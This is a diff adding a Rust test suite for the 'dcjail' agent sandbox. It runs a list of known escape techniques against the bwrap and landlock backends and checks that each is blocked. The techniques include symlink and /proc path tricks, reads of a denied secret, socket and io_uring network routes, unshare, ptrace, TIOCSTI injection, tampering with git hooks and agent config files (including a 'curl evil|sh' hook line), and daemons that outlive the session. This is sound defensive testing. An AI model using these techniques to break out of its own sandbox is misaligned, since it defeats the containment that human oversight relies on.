@@ -1,0 +1,527 @@
+//! The escape suite: one case per known way out of an agent sandbox, run
+//! against every Linux backend. Each case first runs *unsandboxed* as a
+//! control and must escape there (so the case can fail), then runs under each
+//! backend, where the effect must not happen. A backend may refuse (122) a
+//! policy it cannot enforce — that is not an escape — but `bwrap` must block
+//! every case. The result table is printed (`cargo test --test escape --
+//! --nocapture`) and is the one in README.md.
+
+use std::io::{Read, Write};
+use std::net::{TcpListener, UdpSocket};
+use std::os::unix::net::UnixListener;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Output, Stdio};
+use std::time::Duration;
+
+const PY: &str = "/usr/bin/python3";
+const BACKENDS: &[&str] = &["bwrap", "landlock"];
+
+fn bin() -> &'static str {
+    env!("CARGO_BIN_EXE_dcjail")
+}
+
+/// A fresh directory tree per run: `ws` (the workspace, writable),
+/// `outside` (readable, never writable), `ws/private` and `private`
+/// (deny_read, holding the secret).
+struct Ctx {
+    root: PathBuf,
+    ws: PathBuf,
+    outside: PathBuf,
+    private: PathBuf,
+    ws_private: PathBuf,
+    secret: String,
+    tag: String,
+}
+
+impl Ctx {
+    fn new(case: &str, run: &str) -> Ctx {
+        // Not under /tmp: /tmp is a writable root in workspace-write mode.
+        let base = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
+        let tag = format!("{case}-{run}-{}", std::process::id());
+        let root = base.join(format!("escape-{tag}"));
+        let _ = std::fs::remove_dir_all(&root);
+        let ws = root.join("ws");
+        let outside = root.join("outside");
+        let private = root.join("private");
+        let ws_private = ws.join("private");
+        for d in [&ws, &outside, &private, &ws_private, &ws.join(".git/hooks")] {
+            std::fs::create_dir_all(d).unwrap();
+        }
+        let secret = format!("SECRET-{}-{}", std::process::id(), case.len() * 7919);
+        std::fs::write(private.join("secret"), &secret).unwrap();
+        std::fs::write(ws_private.join("secret"), &secret).unwrap();
+        std::fs::write(outside.join("existing"), "ORIGINAL").unwrap();
+        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
+        std::fs::write(ws.join(".git/description"), "repo\n").unwrap();
+        let root = std::fs::canonicalize(&root).unwrap();
+        Ctx {
+            ws: root.join("ws"),
+            outside: root.join("outside"),
+            private: root.join("private"),
+            ws_private: root.join("ws/private"),
+            root,
+            secret,
+            tag,
+        }
+    }
+
+    fn policy(&self, protect_defaults: bool, net: &str) -> PathBuf {
+        let p = self.root.join("policy.toml");
+        let text = format!(
+            "[permission]\noutcome = \"allow\"\napproval = \"granted\"\n\
+             [sandbox]\nmode = \"workspace-write\"\nworkspace = {ws:?}\n\
+             [sandbox.filesystem]\nprotect_defaults = {protect_defaults}\n\
+             deny_read = [{p1:?}, {p2:?}]\n deny_write = [{dw:?}]\n\
+             [sandbox.network]\nmode = \"{net}\"\n",
+            ws = self.ws.to_str().unwrap(),
+            p1 = self.private.to_str().unwrap(),
+            p2 = self.ws_private.to_str().unwrap(),
+            dw = self.ws.join("locked").to_str().unwrap(),
+        );
+        std::fs::write(&p, text).unwrap();
+        p
+    }
+}
+
+impl Drop for Ctx {
+    fn drop(&mut self) {
+        let _ = Command::new("chmod").args(["-R", "u+rwX"]).arg(&self.root).status();
+        let _ = std::fs::remove_dir_all(&self.root);
+    }
+}
+
+/// What a case does around the command: listeners, outside processes.
+#[derive(Default)]
+struct Env {
+    tcp: Option<TcpListener>,
+    tcp6: Option<TcpListener>,
+    udp: Option<UdpSocket>,
+    unix: Option<UnixListener>,
+    abstract_name: Option<String>,
+    abstract_sock: Option<UnixListener>,
+    outside_proc: Option<Child>,
+    vars: Vec<(String, String)>,
+}
+
+impl Env {
+    fn var(&self, k: &str) -> String {
+        self.vars.iter().find(|(a, _)| a == k).map(|(_, v)| v.clone()).unwrap_or_default()
+    }
+}
+
+impl Drop for Env {
+    fn drop(&mut self) {
+        if let Some(c) = &mut self.outside_proc {
+            let _ = c.kill();
+            let _ = c.wait();
+        }
+    }
+}
+
+fn tcp_got_bytes(l: &TcpListener) -> bool {
+    l.set_nonblocking(true).unwrap();
+    for _ in 0..10 {
+        if let Ok((mut s, _)) = l.accept() {
+            s.set_nonblocking(false).unwrap();
+            s.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
+            let mut b = [0u8; 16];
+            if matches!(s.read(&mut b), Ok(n) if n > 0) {
+                return true;
+            }
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    false
+}
+
+fn unix_got_bytes(l: &UnixListener) -> bool {
+    l.set_nonblocking(true).unwrap();
+    for _ in 0..10 {
+        if let Ok((mut s, _)) = l.accept() {
+            s.set_nonblocking(false).unwrap();
+            s.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
+            let mut b = [0u8; 16];
+            if matches!(s.read(&mut b), Ok(n) if n > 0) {
+                return true;
+            }
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    false
+}
+
+fn udp_got_bytes(u: &UdpSocket) -> bool {
+    u.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
+    let mut b = [0u8; 512];
+    u.recv_from(&mut b).is_ok()
+}
+
+fn alive(c: &mut Child) -> bool {
+    matches!(c.try_wait(), Ok(None))
+}
+
+type Setup = fn(&Ctx, &mut Env);
+type Script = fn(&Ctx, &Env) -> String;
+/// Ok(()) when the effect did not happen; Err(what happened) otherwise.
+type Check = fn(&Ctx, &mut Env, &Output) -> Result<(), String>;
+
+struct Case {
+    group: &'static str,
+    name: &'static str,
+    /// protect_defaults for this case (only the protected-path cases need it).
+    protect: bool,
+    net: &'static str,
+    setup: Setup,
+    script: Script,
+    check: Check,
+}
+
+fn no_setup(_: &Ctx, _: &mut Env) {}
+
+fn absent(p: &Path) -> Result<(), String> {
+    if p.exists() {
+        Err(format!("{} was created", p.display()))
+    } else {
+        Ok(())
+    }
+}
+
+fn out_lacks(o: &Output, needle: &str) -> Result<(), String> {
+    let all = [&o.stdout[..], &o.stderr[..]].concat();
+    if String::from_utf8_lossy(&all).contains(needle) {
+        Err(format!("output contains {needle}"))
+    } else {
+        Ok(())
+    }
+}
+
+fn unchanged(p: &Path, want: &str) -> Result<(), String> {
+    match std::fs::read_to_string(p) {
+        Ok(s) if s == want => Ok(()),
+        Ok(s) => Err(format!("{} changed to {s:?}", p.display())),
+        Err(e) => Err(format!("{}: {e}", p.display())),
+    }
+}
+
+fn secret_not_shown(c: &Ctx, _: &mut Env, o: &Output) -> Result<(), String> {
+    out_lacks(o, &c.secret)
+}
+
+fn outside_untouched(c: &Ctx, _: &mut Env, _: &Output) -> Result<(), String> {
+    absent(&c.outside.join("escaped"))?;
+    unchanged(&c.outside.join("existing"), "ORIGINAL")
+}
+
+fn start_outside_sleeper(dir: &Path) -> Child {
+    Command::new("sleep").arg("60").current_dir(dir).spawn().unwrap()
+}
+
+fn cases() -> Vec<Case> {
+    vec![
+        // ---- writes outside the writable set
+        Case { group: "write", name: "by path", protect: false, net: "none", setup: no_setup,
+            script: |c, _| format!("echo x > '{}/escaped'; echo x >> '{}/existing'", c.outside.display(), c.outside.display()),
+            check: outside_untouched },
+        Case { group: "write", name: "through a symlink", protect: false, net: "none", setup: no_setup,
+            script: |c, _| format!("ln -s '{}' link; echo x > link/escaped; ln -s '{}/existing' l2; echo x >> l2", c.outside.display(), c.outside.display()),
+            check: outside_untouched },
+        Case { group: "write", name: "through a hard link", protect: false, net: "none", setup: no_setup,
+            script: |c, _| format!("ln '{}/existing' hl; echo x >> hl", c.outside.display()),
+            check: outside_untouched },
+        Case { group: "write", name: "rename of a parent (deny_write dir)", protect: false, net: "none",
+            setup: |c, _| { std::fs::create_dir_all(c.ws.join("locked")).unwrap(); std::fs::write(c.ws.join("locked/f"), "ORIGINAL").unwrap(); },
+            script: |_, _| "mv locked moved; echo x > moved/f; echo x > locked/f".to_string(),
+            check: |c, _, _| unchanged(&c.ws.join("locked/f"), "ORIGINAL") },
+        Case { group: "write", name: "via ..", protect: false, net: "none", setup: no_setup,
+            script: |_, _| "echo x > ../outside/escaped; echo x >> ./../outside/existing".to_string(),
+            check: outside_untouched },
+        Case { group: "write", name: "via /proc/self/root", protect: false, net: "none", setup: no_setup,
+            script: |c, _| format!("echo x > /proc/self/root'{}/escaped'", c.outside.display()),
+            check: outside_untouched },
+        Case { group: "write", name: "via /proc/<pid>/cwd", protect: false, net: "none",
+            setup: |c, e| { let ch = start_outside_sleeper(&c.outside); e.vars.push(("PID".into(), ch.id().to_string())); e.outside_proc = Some(ch); },
+            script: |_, e| format!("echo x > /proc/{}/cwd/escaped", e.var("PID")),
+            check: outside_untouched },
+        Case { group: "write", name: "to /dev/shm", protect: false, net: "none", setup: no_setup,
+            script: |c, _| format!("echo x > /dev/shm/dcjail-escape-{}", c.tag),
+            check: |c, _, _| { let p = PathBuf::from(format!("/dev/shm/dcjail-escape-{}", c.tag)); let r = absent(&p); let _ = std::fs::remove_file(&p); r } },
+        // ---- reading denied content
+        Case { group: "read", name: "by path", protect: false, net: "none", setup: no_setup,
+            script: |c, _| format!("cat '{}/secret' private/secret", c.private.display()),
+            check: secret_not_shown },
+        Case { group: "read", name: "through a symlink", protect: false, net: "none", setup: no_setup,
+            script: |c, _| format!("ln -s '{}/secret' l; cat l; ln -s private p; cat p/secret", c.private.display()),
+            check: secret_not_shown },
+        Case { group: "read", name: "through a hard link", protect: false, net: "none", setup: no_setup,
+            script: |c, _| format!("ln '{}/secret' h; cat h; ln private/secret h2; cat h2", c.private.display()),
+            check: secret_not_shown },
+        Case { group: "read", name: "rename of a parent", protect: false, net: "none", setup: no_setup,
+            script: |_, _| "mv private p2; cat p2/secret".to_string(),
+            check: secret_not_shown },
+        Case { group: "read", name: "via ..", protect: false, net: "none", setup: no_setup,
+            script: |_, _| "cat ../private/secret ./x/../private/secret".to_string(),
+            check: secret_not_shown },
+        Case { group: "read", name: "via /proc/self/root", protect: false, net: "none", setup: no_setup,
+            script: |c, _| format!("cat /proc/self/root'{}/secret'", c.private.display()),
+            check: secret_not_shown },
+        Case { group: "read", name: "via /proc/<pid>/cwd", protect: false, net: "none",
+            setup: |c, e| { let ch = start_outside_sleeper(&c.private); e.vars.push(("PID".into(), ch.id().to_string())); e.outside_proc = Some(ch); },
+            script: |_, e| format!("cat /proc/{}/cwd/secret", e.var("PID")),
+            check: secret_not_shown },
+        Case { group: "read", name: "an inherited descriptor (fd, /proc/self/fd)", protect: false, net: "none", setup: no_setup,
+            // The runner opens the secret as fd 5 before starting dcjail.
+            script: |_, _| "cat <&5; cat /proc/self/fd/5".to_string(),
+            check: secret_not_shown },
+        // ---- network
+        Case { group: "network", name: "TCP to a loopback listener", protect: false, net: "none",
+            setup: |_, e| { let l = TcpListener::bind("127.0.0.1:0").unwrap(); e.vars.push(("PORT".into(), l.local_addr().unwrap().port().to_string())); e.tcp = Some(l); },
+            script: |_, e| format!("{PY} -c \"import socket; s=socket.create_connection(('127.0.0.1',{}),2); s.sendall(b'ESCAPE')\"", e.var("PORT")),
+            check: |_, e, _| if tcp_got_bytes(e.tcp.as_ref().unwrap()) { Err("the listener got bytes".into()) } else { Ok(()) } },
+        Case { group: "network", name: "TCP over IPv6 (::1)", protect: false, net: "none",
+            setup: |_, e| { let l = TcpListener::bind("[::1]:0").unwrap(); e.vars.push(("PORT".into(), l.local_addr().unwrap().port().to_string())); e.tcp6 = Some(l); },
+            script: |_, e| format!("{PY} -c \"import socket; s=socket.create_connection(('::1',{}),2); s.sendall(b'ESCAPE')\"", e.var("PORT")),
+            check: |_, e, _| if tcp_got_bytes(e.tcp6.as_ref().unwrap()) { Err("the listener got bytes".into()) } else { Ok(()) } },
+        Case { group: "network", name: "UDP datagram", protect: false, net: "none",
+            setup: |_, e| { let u = UdpSocket::bind("127.0.0.1:0").unwrap(); e.vars.push(("PORT".into(), u.local_addr().unwrap().port().to_string())); e.udp = Some(u); },
+            script: |_, e| format!("{PY} -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'ESCAPE', ('127.0.0.1',{}))\"", e.var("PORT")),
+            check: |_, e, _| if udp_got_bytes(e.udp.as_ref().unwrap()) { Err("the listener got a datagram".into()) } else { Ok(()) } },
+        Case { group: "network", name: "DNS query (UDP)", protect: false, net: "none",
+            setup: |_, e| { let u = UdpSocket::bind("127.0.0.1:0").unwrap(); e.vars.push(("PORT".into(), u.local_addr().unwrap().port().to_string())); e.udp = Some(u); },
+            script: |_, e| format!("{PY} -c \"import socket; q=b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ('127.0.0.1',{}))\"", e.var("PORT")),
+            check: |_, e, _| if udp_got_bytes(e.udp.as_ref().unwrap()) { Err("the resolver got the query".into()) } else { Ok(()) } },
+        Case { group: "network", name: "raw / ICMP socket", protect: false, net: "none", setup: no_setup,
+            script: |_, _| format!("{PY} -c \"import socket\nfor t,p in ((socket.SOCK_RAW, socket.IPPROTO_ICMP),(socket.SOCK_DGRAM, socket.IPPROTO_ICMP),(socket.SOCK_RAW, 255)):\n  try:\n    s=socket.socket(socket.AF_INET,t,p); s.sendto(b'\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00',('127.0.0.1',0)); print('OPENED')\n  except OSError: pass\""),
+            check: |_, _, o| out_lacks(o, "OPENED") },
+        Case { group: "network", name: "AF_UNIX socket file (docker-like)", protect: false, net: "none",
+            setup: |c, e| { let p = c.outside.join("docker.sock"); e.unix = Some(UnixListener::bind(&p).unwrap()); e.vars.push(("SOCK".into(), p.display().to_string())); },
+            script: |_, e| format!("{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('{}'); s.sendall(b'ESCAPE')\"", e.var("SOCK")),
+            check: |_, e, _| if unix_got_bytes(e.unix.as_ref().unwrap()) { Err("the socket got bytes".into()) } else { Ok(()) } },
+        Case { group: "network", name: "abstract unix socket", protect: false, net: "none",
+            setup: |c, e| {
+                use std::os::linux::net::SocketAddrExt;
+                let name = format!("dcjail-escape-{}", c.tag);
+                let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
+                e.abstract_sock = Some(UnixListener::bind_addr(&addr).unwrap());
+                e.abstract_name = Some(name.clone());
+                e.vars.push(("NAME".into(), name));
+            },
+            script: |_, e| format!("{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0{}'); s.sendall(b'ESCAPE')\"", e.var("NAME")),
+            check: |_, e, _| if unix_got_bytes(e.abstract_sock.as_ref().unwrap()) { Err("the abstract socket got bytes".into()) } else { Ok(()) } },
+        Case { group: "network", name: "io_uring", protect: false, net: "none", setup: no_setup,
+            script: |_, _| format!("{PY} -c \"import ctypes; l=ctypes.CDLL(None, use_errno=True); p=ctypes.create_string_buffer(120); fd=l.syscall(425, 4, p); print('URING' if fd >= 0 else 'no')\""),
+            check: |_, _, o| out_lacks(o, "URING") },
+        // ---- privilege
+        Case { group: "privilege", name: "unshare (new namespaces)", protect: false, net: "none", setup: no_setup,
+            script: |_, _| "unshare -U -r true && echo UNSHARED-U; unshare -n true && echo UNSHARED-N; unshare -m true && echo UNSHARED-M".to_string(),
+            check: |_, _, o| out_lacks(o, "UNSHARED") },
+        Case { group: "privilege", name: "setns into another process's namespaces", protect: false, net: "none",
+            setup: |_, e| {
+                let ch = Command::new("unshare").args(["-n", "-m", "sleep", "60"]).spawn().unwrap();
+                std::thread::sleep(Duration::from_millis(100));
+                e.vars.push(("PID".into(), ch.id().to_string()));
+                e.outside_proc = Some(ch);
+            },
+            script: |_, e| format!("nsenter -t {p} -n true && echo ENTERED; nsenter -t {p} -m true && echo ENTERED", p = e.var("PID")),
+            check: |_, _, o| out_lacks(o, "ENTERED") },
+        Case { group: "privilege", name: "ptrace a process", protect: false, net: "none", setup: no_setup,
+            script: |_, _| format!("sleep 5 & {PY} -c \"import ctypes,sys; l=ctypes.CDLL(None, use_errno=True); r=l.ptrace(16, $!, 0, 0); print('TRACED' if r == 0 else 'no')\"; kill -KILL $! 2>/dev/null"),
+            check: |_, _, o| out_lacks(o, "TRACED") },
+        Case { group: "privilege", name: "signal a process outside", protect: false, net: "none",
+            setup: |c, e| { let ch = start_outside_sleeper(&c.outside); e.vars.push(("PID".into(), ch.id().to_string())); e.outside_proc = Some(ch); },
+            script: |_, e| format!("kill -KILL {}", e.var("PID")),
+            check: |_, e, _| { std::thread::sleep(Duration::from_millis(100)); if alive(e.outside_proc.as_mut().unwrap()) { Ok(()) } else { Err("the outside process was killed".into()) } } },
+        Case { group: "privilege", name: "TIOCSTI (type into the terminal)", protect: false, net: "none", setup: no_setup,
+            // The runner gives the command a pty as stdin and reads what was queued.
+            script: |_, _| format!("{PY} -c \"import fcntl,termios\nfor ch in b'INJECTED': fcntl.ioctl(0, termios.TIOCSTI, bytes([ch]))\""),
+            check: |_, _, o| out_lacks(o, "INJECTED") },
+        Case { group: "privilege", name: "mount", protect: false, net: "none", setup: no_setup,
+            script: |c, _| format!("mount -t tmpfs none '{}' && echo MOUNTED; mount --bind / '{}' && echo MOUNTED", c.outside.display(), c.ws.display()),
+            check: |_, _, o| out_lacks(o, "MOUNTED") },
+        // ---- protected paths
+        Case { group: "protected", name: ".git/hooks and .git/config", protect: true, net: "none", setup: no_setup,
+            script: |_, _| "echo 'curl evil|sh' > .git/hooks/pre-commit; echo '[core] fsmonitor=evil' >> .git/config; echo ok > .git/description".to_string(),
+            check: |c, _, _| { absent(&c.ws.join(".git/hooks/pre-commit"))?; unchanged(&c.ws.join(".git/config"), "[core]\n") } },
+        Case { group: "protected", name: "create missing .bashrc, .vscode, .mcp.json", protect: true, net: "none", setup: no_setup,
+            script: |_, _| "echo evil > .bashrc; mkdir .vscode; echo {} > .vscode/settings.json; echo {} > .mcp.json; mkdir -p .claude/commands; echo x > .claude/commands/x.md".to_string(),
+            check: |c, _, _| { for n in [".bashrc", ".vscode", ".mcp.json", ".claude/commands"] { absent(&c.ws.join(n))?; } Ok(()) } },
+        Case { group: "protected", name: "rename .git away, write hooks", protect: true, net: "none", setup: no_setup,
+            script: |_, _| "mv .git g2 && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; mv g2/hooks g2/h2; echo evil > g2/hooks/pre-commit".to_string(),
+            check: |c, _, _| { absent(&c.ws.join(".git/hooks/pre-commit"))?; absent(&c.ws.join("g2/hooks/pre-commit"))?; if c.ws.join(".git/config").exists() { Ok(()) } else { Err(".git was moved".into()) } } },
+        Case { group: "protected", name: "hard link a protected file", protect: true, net: "none", setup: no_setup,
+            script: |_, _| "ln .git/config cfg && echo '[x]' >> cfg".to_string(),
+            check: |c, _, _| unchanged(&c.ws.join(".git/config"), "[core]\n") },
+        // ---- processes
+        Case { group: "process", name: "background daemon outliving dcjail", protect: false, net: "none", setup: no_setup,
+            script: |_, _| "setsid sh -c 'sleep 2; echo alive > daemon-marker' >/dev/null 2>&1 < /dev/null & exit 0".to_string(),
+            check: |c, _, _| { std::thread::sleep(Duration::from_secs(3)); absent(&c.ws.join("daemon-marker")) } },
+        Case { group: "process", name: "fork bomb (bounded) with a timeout", protect: false, net: "none", setup: no_setup,
+            script: |c, _| format!("i=0; while [ $i -lt 60 ]; do setsid sh -c 'sleep 300; :' bomb-{} >/dev/null 2>&1 </dev/null & i=$((i+1)); done; sleep 300", c.tag),
+            check: |c, _, _| {
+                std::thread::sleep(Duration::from_millis(300));
+                let o = Command::new("pgrep").arg("-f").arg(format!("bomb-{}", c.tag)).output().unwrap();
+                if o.stdout.is_empty() { Ok(()) } else {
+                    let _ = Command::new("pkill").arg("-KILL").arg("-f").arg(format!("bomb-{}", c.tag)).status();
+                    Err(format!("{} processes left", String::from_utf8_lossy(&o.stdout).lines().count()))
+                }
+            } },
+    ]
+}
+
+/// How one run went.
+#[derive(Debug, PartialEq)]
+enum Outcome {
+    Blocked,
+    Refused,
+    Escaped(String),
+}
+
+fn run_case(case: &Case, backend: Option<&str>, idx: usize) -> Outcome {
+    let ctx = Ctx::new(&format!("c{idx}"), backend.unwrap_or("control"));
+    let mut env = Env::default();
+    (case.setup)(&ctx, &mut env);
+    let script = (case.script)(&ctx, &env);
+    let policy = ctx.policy(case.protect, case.net);
+    let mut args: Vec<String> = vec!["--policy".into(), policy.display().to_string()];
+    if let Some(b) = backend {
+        args.extend(["--backend".into(), b.to_string()]);
+    }
+    if case.group == "process" && case.name.contains("timeout") {
+        args.extend(["--timeout".into(), "2".into()]);
+    }
+    // fd 5: the secret, opened outside; stdin: a pty for TIOCSTI.
+    let outer = format!(
+        "exec 5<'{}'; exec \"$@\"",
+        ctx.private.join("secret").display()
+    );
+    let mut cmd = Command::new("sh");
+    cmd.arg("-c").arg(outer).arg("sh");
+    match backend {
+        Some(_) => {
+            cmd.arg(bin()).args(&args).args(["--", "sh", "-c", &script]);
+        }
+        // The control runs the same script with no dcjail at all, under a
+        // plain timeout(1) that kills only the shell, as a careless launcher would.
+        None => {
+            cmd.args(["timeout", "-s", "KILL", "3", "sh", "-c", &script]);
+        }
+    }
+    cmd.current_dir(&ctx.ws).env_remove("DCJAIL_POLICY").env_remove("TMPDIR");
+    let pty = if case.name.starts_with("TIOCSTI") { Some(open_pty()) } else { None };
+    match &pty {
+        Some((_, slave)) => {
+            cmd.stdin(Stdio::from(slave.try_clone().unwrap()));
+        }
+        None => {
+            cmd.stdin(Stdio::null());
+        }
+    }
+    let mut o = cmd.output().unwrap();
+    if let Some((master, slave)) = pty {
+        // Whatever TIOCSTI queued is now readable as input on the tty.
+        let mut queued = read_pending(&slave);
+        queued.extend(read_pending(&master));
+        o.stdout.extend(queued);
+    }
+    let err = String::from_utf8_lossy(&o.stderr);
+    if backend.is_some() && o.status.code() == Some(122) && err.starts_with("dcjail: sandbox-unavailable: ") {
+        return Outcome::Refused;
+    }
+    match (case.check)(&ctx, &mut env, &o) {
+        Ok(()) => Outcome::Blocked,
+        Err(e) => Outcome::Escaped(format!("{e} (status {:?}, stderr {})", o.status.code(), err.trim())),
+    }
+}
+
+fn open_pty() -> (std::fs::File, std::fs::File) {
+    use std::os::fd::FromRawFd;
+    let (mut m, mut s) = (0, 0);
+    // SAFETY: openpty writes two fds into the given pointers.
+    let r = unsafe { libc::openpty(&mut m, &mut s, std::ptr::null_mut(), std::ptr::null(), std::ptr::null()) };
+    assert_eq!(r, 0, "openpty failed");
+    // SAFETY: fresh fds we own.
+    unsafe { (std::fs::File::from_raw_fd(m), std::fs::File::from_raw_fd(s)) }
+}
+
+fn read_pending(f: &std::fs::File) -> Vec<u8> {
+    use std::os::fd::AsRawFd;
+    let fd = f.as_raw_fd();
+    // SAFETY: plain fcntl on an fd we own.
+    unsafe { libc::fcntl(fd, libc::F_SETFL, libc::fcntl(fd, libc::F_GETFL) | libc::O_NONBLOCK) };
+    let mut out = Vec::new();
+    let mut b = [0u8; 256];
+    let mut f = f;
+    while let Ok(n) = f.read(&mut b) {
+        if n == 0 {
+            break;
+        }
+        out.extend_from_slice(&b[..n]);
+    }
+    out
+}
+
+#[test]
+fn no_case_escapes_any_backend_and_every_case_escapes_without_one() {
+    let cases = cases();
+    let mut table = String::from("| group | case | control (no sandbox) |");
+    for b in BACKENDS {
+        table.push_str(&format!(" {b} |"));
+    }
+    table.push_str("\n|---|---|---|");
+    for _ in BACKENDS {
+        table.push_str("---|");
+    }
+    table.push('\n');
+    let mut failures = Vec::new();
+    for (i, case) in cases.iter().enumerate() {
+        let control = run_case(case, None, i);
+        let control_cell = match &control {
+            Outcome::Escaped(_) => "escapes".to_string(),
+            other => {
+                failures.push(format!("{} / {}: the control did not escape ({other:?}): the case cannot fail", case.group, case.name));
+                "DID NOT ESCAPE".to_string()
+            }
+        };
+        table.push_str(&format!("| {} | {} | {} |", case.group, case.name, control_cell));
+        for b in BACKENDS {
+            let out = run_case(case, Some(b), i);
+            let cell = match &out {
+                Outcome::Blocked => "blocked".to_string(),
+                Outcome::Refused => "refused (122)".to_string(),
+                Outcome::Escaped(e) => {
+                    failures.push(format!("{} / {} under {b}: ESCAPED: {e}", case.group, case.name));
+                    "**ESCAPED**".to_string()
+                }
+            };
+            if *b == "bwrap" && out == Outcome::Refused {
+                failures.push(format!("{} / {} under bwrap: refused; bwrap must enforce every case", case.group, case.name));
+            }
+            table.push_str(&format!(" {cell} |"));
+        }
+        table.push('\n');
+    }
+    println!("\n{table}");
+    let _ = std::fs::write(PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("escape-table.md"), &table);
+    assert!(failures.is_empty(), "{}\n\n{table}", failures.join("\n"));
+}
+
+#[test]
+fn landlock_runs_at_least_the_network_and_privilege_cases() {
+    // Refusing everything would pass the escape test trivially; make sure the
+    // landlock backend actually enforces the cases it can express.
+    let cases = cases();
+    let mut refused = Vec::new();
+    for (i, case) in cases.iter().enumerate() {
+        if matches!(case.group, "network" | "privilege" | "read" | "process") || (case.group == "write" && case.name != "rename of a parent (deny_write dir)") {
+            if run_case(case, Some("landlock"), 1000 + i) == Outcome::Refused {
+                refused.push(format!("{} / {}", case.group, case.name));
+            }
+        }
+    }
+    assert!(refused.is_empty(), "landlock refused cases it should enforce: {refused:?}");
+}
+
+// Keep the write import used on every platform.
+#[allow(dead_code)]
+fn _w(mut f: std::fs::File) {
+    let _ = f.write_all(b"");
+}
